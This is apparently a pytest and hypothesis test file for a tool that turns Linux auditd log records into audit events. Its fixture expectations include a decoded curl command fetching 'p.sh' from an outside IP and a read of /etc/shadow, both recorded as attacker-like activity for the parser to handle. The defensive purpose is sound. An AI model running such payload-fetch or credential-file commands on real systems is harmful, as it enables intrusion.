"""Linux audit records become valid, deterministic sealtrail events (core/sources/auditd).

The fixture is an audit.log written after the record format of the RHEL "Understanding audit
log files" documentation: kernel events of several records sharing a serial (SYSCALL with
EXECVE, CWD, PATH and PROCTITLE), hex-encoded values, a refused open, a forwarded host's
``node=`` lines, PAM records with their single-quoted ``msg='...'``, sudo, an audit rule
change, a user added, an SELinux denial and ``log_format=ENRICHED`` lines.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from sealtrail import AuditLog
from sealtrail.core.errors import ValidationError
from sealtrail.core.event import validate_event
from sealtrail.core.reserved import reserved_field
from sealtrail.core.sources import get_source
from sealtrail.core.sources.auditd import LOG_SOURCE, SOURCE, parse_line

FIXTURES = Path(__file__).parent / "fixtures" / "auditd"
LOG = FIXTURES / "audit.log"


def text() -> str:
    return LOG.read_text(encoding="utf-8")


def lines() -> list[str]:
    return text().split("\n")[:-1]


def parsed() -> list[dict[str, Any]]:
    return [rec for _, rec in SOURCE.records(text())]


def event_at(n: int) -> dict[str, Any]:
    """The event of line ``n`` of the fixture (from 1)."""
    return SOURCE.event(parse_line(lines()[n - 1]))


def events_of(data: str) -> list[dict[str, Any]]:
    return [SOURCE.event(rec) for _, rec in SOURCE.records(data)]


def records_or_field(data: str) -> list[dict[str, Any]] | str:
    """The records of a text, or the field (line) the ValidationError refusing it names."""
    try:
        return [rec for _, rec in SOURCE.records(data)]
    except ValidationError as exc:
        return exc.field


def event_or_field(record: dict[str, Any]) -> dict[str, Any] | str:
    """The event of a record, or the field the ValidationError refusing it names."""
    try:
        return SOURCE.event(record)
    except ValidationError as exc:
        return exc.field


def check(event: dict[str, Any]) -> None:
    """What every imported event must be: valid, and never one of sealtrail's own."""
    validate_event(event)
    service = (event.get("source") or {}).get("service")
    assert reserved_field(event["action"], service, event["actor"]["id"]) is None


# -- the fixture, line by line -----------------------------------------------------------------

# line -> (action, outcome, category, actor id, target id)
EXPECTED: dict[int, tuple[str, str, str, str, str | None]] = {
    1: ("linux.auditd.DAEMON_START", "success", "system", "root", None),
    2: ("linux.auditd.SYSCALL", "success", "system", "uid:1000", "/usr/bin/chattr"),
    3: ("linux.auditd.EXECVE", "success", "system", "unknown", "chattr"),
    4: ("linux.auditd.CWD", "success", "system", "unknown", "/root"),
    5: ("linux.auditd.PATH", "success", "system", "unknown", "/usr/bin/chattr"),
    6: ("linux.auditd.PATH", "success", "system", "unknown", "/lib64/ld-linux-x86-64.so.2"),
    7: ("linux.auditd.PROCTITLE", "success", "system", "unknown", None),
    8: ("linux.auditd.SYSCALL", "denied", "system", "uid:1000", "/usr/bin/cat"),
    9: ("linux.auditd.CWD", "success", "system", "unknown", "/home/alice"),
    10: ("linux.auditd.PATH", "success", "system", "unknown", "/etc/shadow"),
    11: ("linux.auditd.PROCTITLE", "success", "system", "unknown", None),
    12: ("linux.auditd.SYSCALL", "success", "system", "uid:1001", "/usr/bin/curl"),
    13: ("linux.auditd.EXECVE", "success", "system", "unknown", "curl"),
    14: ("linux.auditd.CWD", "success", "system", "unknown", "/tmp/notes\u2028old"),
    15: ("linux.auditd.PATH", "success", "system", "unknown", "/usr/bin/curl"),
    16: ("linux.auditd.PROCTITLE", "success", "system", "unknown", None),
    17: ("linux.auditd.USER_AUTH", "failure", "authentication", "alice", "alice"),
    18: ("linux.auditd.USER_AUTH", "success", "authentication", "alice", "alice"),
    19: ("linux.auditd.USER_ACCT", "success", "authorization", "alice", "alice"),
    20: ("linux.auditd.CRED_ACQ", "success", "authentication", "alice", "alice"),
    21: ("linux.auditd.USER_LOGIN", "success", "authentication", "uid:1000", "uid:1000"),
    22: ("linux.auditd.USER_START", "success", "authentication", "uid:1000", "alice"),
    23: ("linux.auditd.USER_CMD", "success", "admin", "uid:1000", "systemctl restart sshd"),
    24: ("linux.auditd.CONFIG_CHANGE", "success", "configuration", "uid:1000", "shadow"),
    25: ("linux.auditd.ADD_USER", "success", "admin", "uid:1000", "bob"),
    26: ("linux.auditd.AVC", "denied", "authorization", "unknown", "id_rsa"),
    27: ("linux.auditd.SYSCALL", "success", "system", "alice", "/usr/bin/vi"),
    28: ("linux.auditd.PATH", "success", "system", "unknown", "/etc/sudoers"),
}


def test_the_source_is_registered_under_its_cli_name() -> None:
    assert get_source("auditd") is SOURCE
    assert SOURCE.log_source.as_dict() == {"product": "linux", "service": "auditd"}


def test_the_fixture_has_one_record_per_line() -> None:
    found = list(SOURCE.records(text()))
    assert len(found) == len(lines()) == len(EXPECTED) >= 15
    assert [w for w, _ in found] == [f"line {n}" for n in range(1, len(EXPECTED) + 1)]


@pytest.mark.parametrize("n", sorted(EXPECTED))
def test_each_line_maps_to_its_fields(n: int) -> None:
    rec = parse_line(lines()[n - 1])
    ev = SOURCE.event(rec)
    check(ev)
    action, outcome, category, actor, target = EXPECTED[n]
    assert (ev["action"], ev["outcome"], ev["category"]) == (action, outcome, category)
    assert ev["actor"]["id"] == actor
    assert (ev.get("target") or {}).get("id") == target
    assert ev["metadata"] == {"log_source": LOG_SOURCE.as_dict(), "original": rec}
    assert ev["source"]["service"] == "auditd"


def test_records_sharing_a_serial_are_one_kernel_event() -> None:
    evs = [event_at(n) for n in range(2, 8)]
    assert {e["request_id"] for e in evs} == {"1700000000.123:4242"}
    assert {e["time"] for e in evs} == {"2023-11-14T22:13:20.123000Z"}
    assert len({e["id"] for e in evs}) == 6


def test_the_syscall_record_is_parsed_whole() -> None:
    rec = parse_line(lines()[7])
    assert list(rec)[:4] == ["type", "timestamp", "serial", "arch"]
    assert rec["type"] == "SYSCALL"
    assert rec["timestamp"] == "1700000042.517"
    assert rec["serial"] == "4250"
    assert rec["success"] == "no"
    assert rec["exit"] == "-13"
    assert rec["a0"] == "ffffff9c"  # a syscall argument: a number, never decoded
    assert rec["comm"] == "cat"
    assert rec["exe"] == "/usr/bin/cat"
    assert rec["key"] == "shadow"
    assert rec["subj"] == "unconfined_u:unconfined_r:unconfined_t:s0-s0:c0.c1023"
    assert len(rec) == 29  # the header three and 26 fields


def test_execve_arguments_are_decoded_from_hex() -> None:
    rec = parse_line(lines()[12])
    assert rec == {"node": "web01", "type": "EXECVE", "timestamp": "1700000100.004",
                   "serial": "5120", "argc": "4", "a0": "curl", "a1": "-o",
                   "a2": "/tmp/my payload", "a3": "http://203.0.113.50/p.sh"}
    ev = SOURCE.event(rec)
    assert ev["target"] == {"id": "curl", "type": "command",
                            "name": "curl -o /tmp/my payload http://203.0.113.50/p.sh"}


def test_proctitle_nul_separators_become_spaces() -> None:
    assert parse_line(lines()[6])["proctitle"] == "chattr -i /etc/resolv.conf"
    assert parse_line(lines()[10])["proctitle"] == "cat /etc/shadow"
    assert event_at(16)["target"] == {
        "name": "curl -o /tmp/my payload http://203.0.113.50/p.sh", "type": "command"}


def test_a_decoded_value_may_hold_a_line_separator() -> None:
    rec = parse_line(lines()[13])
    assert rec["cwd"] == "/tmp/notes\u2028old"
    assert rec["node"] == "web01"
    assert event_at(14)["source"] == {"service": "auditd", "host": "web01"}
    assert event_at(14)["request_id"] == "web01:1700000100.004:5120"


def test_the_user_space_message_is_parsed_into_the_same_map() -> None:
    rec = parse_line(lines()[16])
    assert rec == {
        "type": "USER_AUTH", "timestamp": "1700000200.881", "serial": "5201", "pid": "3120",
        "uid": "0", "auid": "4294967295", "ses": "4294967295",
        "subj": "system_u:system_r:sshd_t:s0-s0:c0.c1023", "op": "PAM:authentication",
        "grantors": "?", "acct": "alice", "exe": "/usr/sbin/sshd", "hostname": "192.0.2.7",
        "addr": "192.0.2.7", "terminal": "ssh", "res": "failed"}
    ev = SOURCE.event(rec)
    assert ev["actor"] == {"id": "alice", "ip": "192.0.2.7"}  # auid unset: the account
    assert ev["target"] == {"id": "alice", "type": "account"}
    assert ev["source"] == {"service": "auditd"}  # hostname is the peer, not the host


def test_sudo_command_is_decoded() -> None:
    rec = parse_line(lines()[22])
    assert rec["cmd"] == "systemctl restart sshd"
    assert rec["cwd"] == "/home/alice"


def test_selinux_words_are_kept_and_make_a_denial() -> None:
    rec = parse_line(lines()[25])
    assert rec["words"] == "avc: denied { read } for"
    assert rec["tclass"] == "file"
    assert event_at(26)["target"] == {"id": "id_rsa", "type": "file"}
    permissive = dict(rec, permissive="1")
    assert SOURCE.event(permissive)["outcome"] == "success"


def test_enriched_fields_follow_the_group_separator() -> None:
    rec = parse_line(lines()[26])
    assert rec["AUID"] == "alice"
    assert rec["UID"] == "root"
    assert rec["SYSCALL"] == "openat"
    assert rec["key"] == "sudoers"
    assert rec["auid"] == "1000"
    daemon = parse_line(lines()[0])
    assert daemon["AUID"] == "unset"
    assert SOURCE.event(daemon)["actor"]["id"] == "root"  # AUID unset: the UID name


# -- reading text ------------------------------------------------------------------------------

def test_lines_split_on_lf_only() -> None:
    line = ('type=USER_CMD msg=audit(1700000300.310:5301): pid=1 uid=1000 auid=1000 '
            'msg=\'cwd="/tmp/a\u2028b" cmd=6C73202D6C exe="/usr/bin/sudo" res=success\'')
    found = list(SOURCE.records(line + "\r\n" + line.replace("5301", "5302") + "\n"))
    assert [w for w, _ in found] == ["line 1", "line 2"]
    assert found[0][1]["cwd"] == "/tmp/a\u2028b"
    assert found[0][1]["cmd"] == "ls -l"


def test_blank_lines_and_ausearch_separators_are_skipped() -> None:
    data = "\ufeff----\n" + lines()[1] + "\n\n----\n" + lines()[2] + "\n"
    assert [w for w, _ in SOURCE.records(data)] == ["line 2", "line 5"]


@pytest.mark.parametrize("bad", [
    "type=SYSCALL msg=audit(1364481363.243:24",
    "type=SYSCALL msg=audit(1364481363.243:24287): comm=\"ca",
    "type=USER_AUTH msg=audit(1700000200.881:5201): pid=3120 msg='op=PAM:authentication acct=",
    "msg=audit(1364481363.243:24287): arch=c000003e",
    "type=SYSCALL msg=audit(yesterday:1): arch=c000003e",
    "hello world",
    "{\"type\": \"SYSCALL\"}",
])
def test_a_line_that_is_not_a_record_is_named(bad: str) -> None:
    data = lines()[0] + "\n" + lines()[1] + "\n" + bad + "\n"
    with pytest.raises(ValidationError) as err:
        list(SOURCE.records(data))
    assert err.value.field == "line 3"


@pytest.mark.parametrize(("value", "kept"), [
    ("2F746D70", "2F746D70"),           # "/tmp": auditd would have quoted it
    ("2F746D7", "2F746D7"),             # odd length
    ("2F74ZZ70", "2F74ZZ70"),           # not hex
    ("FFFE2061", "FFFE2061"),           # not UTF-8: kept in hex, losslessly
    ("(null)", "(null)"),
    ("2F746D702F61206220", "/tmp/a b "),
])
def test_hex_is_decoded_only_when_auditd_encoded_it(value: str, kept: str) -> None:
    rec = parse_line(f"type=PATH msg=audit(1700000000.1:1): item=0 name={value} nametype=x")
    assert rec["name"] == kept


def test_only_encoded_fields_are_decoded() -> None:
    rec = parse_line("type=SOCKADDR msg=audit(1700000000.1:1): saddr=0200EA60C0000207")
    assert rec["saddr"] == "0200EA60C0000207"
    rec = parse_line("type=SYSCALL msg=audit(1700000000.1:1): a1=2F746D702F61206220")
    assert rec["a1"] == "2F746D702F61206220"


def test_a_field_named_twice_keeps_its_first_value() -> None:
    rec = parse_line("type=USER_ERR msg=audit(1700000000.1:1): pid=1 uid=0 "
                     "msg='type=FAKE uid=5 acct=\"eve\" res=failed'")
    assert rec["type"] == "USER_ERR"
    assert rec["uid"] == "0"
    assert rec["acct"] == "eve"


def test_a_message_without_fields_is_kept_as_text() -> None:
    rec = parse_line("type=USER msg=audit(1700000000.1:1): pid=1 uid=0 msg='just some text'")
    assert rec["msg"] == "just some text"


# -- ids ---------------------------------------------------------------------------------------

def test_ids_are_stable_and_unique() -> None:
    first, second = events_of(text()), events_of(text())
    assert [e["id"] for e in first] == [e["id"] for e in second]
    assert len({e["id"] for e in first}) == len(first)


def test_ids_are_pinned() -> None:
    """The id hashes the parsed record, so a change to how lines are parsed (a field added to
    the hex-decoded ones...) changes the ids of the lines it touches, and re-importing an old
    log would store those lines again. Change these only knowing that."""
    assert event_at(2)["id"] == "018bcfe5-687b-7f41-9857-89fb9d90529e"
    assert event_at(17)["id"] == "018bcfe8-78b1-7a82-a735-1f89f30477e4"


def test_a_kernel_event_split_across_files_is_imported_once() -> None:
    """A log rotated in the middle of a kernel event: the same lines, the same ids."""
    whole = events_of(text())
    older, newer = "\n".join(lines()[:4]), "\n".join(lines()[2:])
    parts = events_of(older) + events_of(newer)
    assert {e["id"] for e in parts} == {e["id"] for e in whole}


def test_a_line_repeated_within_one_kernel_event_is_kept_apart() -> None:
    line = "type=EOE msg=audit(1700000000.123:4242): "
    found = [rec for _, rec in SOURCE.records(f"{line}\n{line}\n{line}\n")]
    assert [r.get("repeat") for r in found] == [None, 2, 3]
    assert len({SOURCE.event(r)["id"] for r in found}) == 3
    # the same line in another kernel event is not a repeat
    other = [rec for _, rec in SOURCE.records(f"{line}\n{line.replace('4242', '4243')}\n")]
    assert [r.get("repeat") for r in other] == [None, None]


def test_the_node_distinguishes_hosts() -> None:
    line = lines()[1]
    assert (SOURCE.event(parse_line(line))["id"]
            != SOURCE.event(parse_line("node=db02 " + line))["id"])


# -- outcomes and actors beyond the fixture ----------------------------------------------------

@pytest.mark.parametrize(("fields", "outcome"), [
    ("success=yes exit=0", "success"),
    ("success=no exit=-2", "failure"),     # ENOENT
    ("success=no exit=-13", "denied"),     # EACCES
    ("success=no exit=-1", "denied"),      # EPERM
    ("res=success", "success"),
    ("res=1", "success"),
    ("res=failed", "failure"),
    ("res=0", "failure"),
    ("", "success"),
])
def test_outcomes(fields: str, outcome: str) -> None:
    rec = parse_line(f"type=SYSCALL msg=audit(1700000000.1:1): auid=1000 {fields}")
    assert SOURCE.event(rec)["outcome"] == outcome


@pytest.mark.parametrize(("fields", "actor"), [
    ("auid=1000 uid=0", "uid:1000"),
    ("auid=4294967295 uid=0", "uid:0"),
    ("auid=-1 uid=33", "uid:33"),
    ("auid=1000 uid=0 \x1dAUID=\"alice\" UID=\"root\"", "alice"),
    ("auid=4294967295 uid=0 \x1dAUID=\"unset\" UID=\"root\"", "root"),
    ("", "unknown"),
])
def test_actors(fields: str, actor: str) -> None:
    rec = parse_line(f"type=SYSCALL msg=audit(1700000000.1:1): {fields}")
    assert SOURCE.event(rec)["actor"]["id"] == actor


def test_an_account_named_like_a_sealtrail_key_is_kept_apart() -> None:
    rec = parse_line("type=USER_AUTH msg=audit(1700000000.1:1): pid=1 uid=0 auid=4294967295 "
                     "msg='op=PAM:authentication acct=\"key:ops\" addr=? res=failed'")
    ev = SOURCE.event(rec)
    assert ev["actor"]["id"] == "auditd:key:ops"
    assert "ip" not in ev["actor"]
    check(ev)


def test_the_time_keeps_the_milliseconds() -> None:
    rec = parse_line("type=EOE msg=audit(1364481363.243:24287): ")
    ev = SOURCE.event(rec)
    assert ev["time"] == "2013-03-28T14:36:03.243000Z"


# -- refusals of mapped records ----------------------------------------------------------------

@pytest.mark.parametrize(("change", "field"), [
    ({"type": None}, "type"),
    ({"type": 7.5}, "type"),
    ({"serial": None}, "serial"),
    ({"serial": "x1"}, "serial"),
    ({"timestamp": None}, "timestamp"),
    ({"timestamp": "1364481363"}, "timestamp"),
    ({"timestamp": 1364481363.243}, "timestamp"),
])
def test_a_map_without_its_header_names_the_field(change: dict[str, Any], field: str) -> None:
    rec = parse_line(lines()[1])
    rec.update(change)
    with pytest.raises(ValidationError) as err:
        SOURCE.event(rec)
    assert err.value.field == field


TYPES = ["SYSCALL", "EXECVE", "PATH", "CWD", "PROCTITLE", "USER_AUTH", "USER_LOGIN", "AVC",
         "CONFIG_CHANGE", "ADD_USER", "USER_CMD", "CRED_ACQ", "UNKNOWN[1334]", "sealtrail"]
FIELDS = ["auid", "uid", "AUID", "UID", "acct", "id", "addr", "exe", "comm", "name", "cwd",
          "proctitle", "a0", "a1", "a2", "success", "exit", "res", "key", "cmd", "path",
          "tclass", "permissive", "msg", "node"]
atoms = st.sampled_from([
    "1000", "4294967295", "-13", "-1", "no", "yes", "failed", "0", "?", "(null)", "alice",
    "key:x", "192.0.2.9", "::1", "\"quoted value\"", "'single'", "2F746D70206120",
    "FFFE", "ABC", "00", "\"unterminated", "'open", "=", "\x1d", "\u2028", "",
    "6F703D782061636374\"", "x=y", "'op=login acct=\"bob\" res=success'"]) | st.text(max_size=8)


@st.composite
def audit_lines(draw: st.DrawFn) -> str:
    """Lines that are mostly well-formed records with hostile values, sometimes not."""
    head = (f"type={draw(st.sampled_from(TYPES))} msg=audit("
            f"{draw(st.integers(0, 99999999999))}.{draw(st.integers(0, 999)):03d}:"
            f"{draw(st.integers(0, 10**12))}): ")
    if draw(st.booleans()):
        head = f"node={draw(st.sampled_from(['web01', 'db-2', 'key:x']))} {head}"
    body = " ".join(f"{draw(st.sampled_from(FIELDS))}={draw(atoms)}"
                    for _ in range(draw(st.integers(0, 8))))
    line = head + body
    if draw(st.integers(0, 5)) == 0:
        line = line[:draw(st.integers(0, len(line)))]
    return line


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(audit_lines(), min_size=1, max_size=4))
def test_hostile_lines_give_valid_events_or_a_validation_error_naming_a_line(
        batch: list[str]) -> None:
    found = records_or_field("\n".join(batch))
    if isinstance(found, str):
        assert found.startswith("line ")
        return
    for rec in found:
        ev = event_or_field(rec)
        if isinstance(ev, str):  # only a header no datetime can hold
            assert ev == "timestamp"
            continue
        check(ev)
        assert ev["action"].startswith("linux.auditd.")
        assert ev["metadata"]["original"] == rec


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=300))
def test_garbage_text_gives_records_or_a_validation_error(data: str) -> None:
    try:
        for _, rec in SOURCE.records(data):
            check(SOURCE.event(rec))
    except ValidationError:
        pass


@settings(max_examples=200, deadline=None)
@given(st.dictionaries(st.sampled_from([*FIELDS, "type", "timestamp", "serial", "words"]),
                       st.none() | st.booleans() | st.integers(-(2**53) + 1, 2**53 - 1)
                       | st.text(max_size=10) | atoms, max_size=10))
def test_garbage_maps_give_valid_events_or_a_validation_error(record: dict[str, Any]) -> None:
    record.setdefault("type", "SYSCALL")
    record.setdefault("timestamp", "1700000000.123")
    record.setdefault("serial", "42")
    ev = event_or_field(record)
    if isinstance(ev, str):
        assert ev in ("type", "timestamp", "serial")
        return
    check(ev)


# -- end to end --------------------------------------------------------------------------------

def test_the_log_appends_once_and_verifies(tmp_path: Path) -> None:
    events = events_of(text())
    with AuditLog.open(tmp_path, encryption=False) as log:
        receipts = log.append_many(events)
        assert len(receipts) == len(events) == 28
        assert not any(r.duplicate for r in receipts)
        again = log.append_many(events)
        assert all(r.duplicate for r in again)
        assert [r.index for r in again] == [r.index for r in receipts]
        log.verify()
